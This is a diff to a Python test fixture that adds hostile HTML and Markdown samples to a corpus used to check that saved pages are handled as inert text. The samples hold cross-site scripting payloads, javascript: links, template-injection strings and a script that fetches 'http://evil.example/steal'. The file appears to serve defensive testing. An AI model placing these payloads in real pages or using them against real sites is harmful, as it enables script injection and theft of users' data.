@@ -43,6 +43,51 @@ Front matter lookalike article
 The gift was a silver bowl, officials said. Nothing in this file is configuration.
 """
 
+# A saved page that tries everything a page can do: every part of it is data, shown as text or dropped.
+INJECTION_PAGE = """<!DOCTYPE html>
+<html><head><meta charset="utf-8">
+<title><script>alert('page title')</script> Ministers sign the harbour accord</title>
+<meta http-equiv="refresh" content="0;url=javascript:alert(7)">
+<base href="http://evil.example/">
+<link rel="canonical" href="javascript:alert(8)">
+<meta property="og:site_name" content="<img src=x onerror=alert(9)> Harbour Wire">
+<script type="application/ld+json">{"@type": "NewsArticle", "headline": "<script>alert(10)</script> Ministers sign the
+ harbour accord", "datePublished": "2025-03-03", "isAccessibleForFree": true}</script>
+<script>alert(11); fetch("http://evil.example/steal")</script>
+<style>body { display: none }</style>
+<link rel="stylesheet" href="http://evil.example/evil.css">
+</head>
+<body onload="alert(12)">
+<article>
+<h1 onmouseover="alert(13)">Ministers sign the harbour accord</h1>
+<p onclick="alert(14)">The two ministers signed the harbour accord on Monday in the port city, officials said.</p>
+<iframe src="javascript:alert(15)"></iframe>
+<p>Officials said <a href="javascript:alert(16)">the visit</a> went well. <img src="http://evil.example/pixel.gif"
+ onerror="alert(17)"> The delegation toured the new quay.</p>
+<svg onload="alert(18)"><circle r="5"/></svg><object data="javascript:alert(19)"></object>
+<p>&lt;script&gt;alert(20)&lt;/script&gt; is shown as text, and {{ 7*7 }} and {% raw %} stay as written.</p>
+<p>The accord covers pilotage, tug services and the sharing of berth schedules between the two ports.</p>
+</article>
+<form action="http://evil.example/"><input name="q"></form>
+</body></html>
+"""
+
+INJECTION_MARKDOWN = """---
+title: "<script>alert('md title')</script> Treaty signed {{ 7*7 }}"
+url: "javascript:alert(21)"
+outlet: "<b onmouseover=alert(22)>Wire</b>"
+---
+
+The treaty was **signed** by both ministers on Monday. <img src=x onerror=alert(23)> They praised the accord.
+
+<script>alert(24)</script>
+
+The delegation visited the port. <iframe src="javascript:alert(25)"></iframe> [Officials](javascript:alert(26)) said
+the visit went well, and ![a picture](http://evil.example/pixel.png) showed the quay.
+
+{% raw %}{{ config.site_name }}{% endraw %} and <a href="javascript:alert(27)">a link</a> stay as text.
+"""
+
 FILES = {
     "m_injection.txt": INJECTION,
     "m_front_matter.txt": FRONT_MATTER,
@@ -50,14 +95,18 @@ FILES = {
     "m_..txt": "Dots in the name\n\nThe treaty was signed on time.\n",
     "m_breakout.txt": '</title><script>alert("t2")</script>" onmouseover="alert(6)" x="\n\n'
                       "The visit ended with a gift.\n",
+    "m_page.html": INJECTION_PAGE,
+    "m_markdown.md": INJECTION_MARKDOWN,
 }
+# What reading them warns about (anything else: read with no warning).
+WARNINGS = {"m_markdown.md": "ok: front matter url is not a plain http(s) address"}
 
 
 def write_injection_corpus(directory: Path) -> dict[str, str]:
     directory.mkdir(parents=True, exist_ok=True)
     for name, text in FILES.items():
         (directory / name).write_text(text, encoding="utf-8")
-    return dict.fromkeys(FILES, "ok")
+    return {name: WARNINGS.get(name, "ok") for name in FILES}
 
 
 def make_hostile_project(tmp: Path) -> Path:
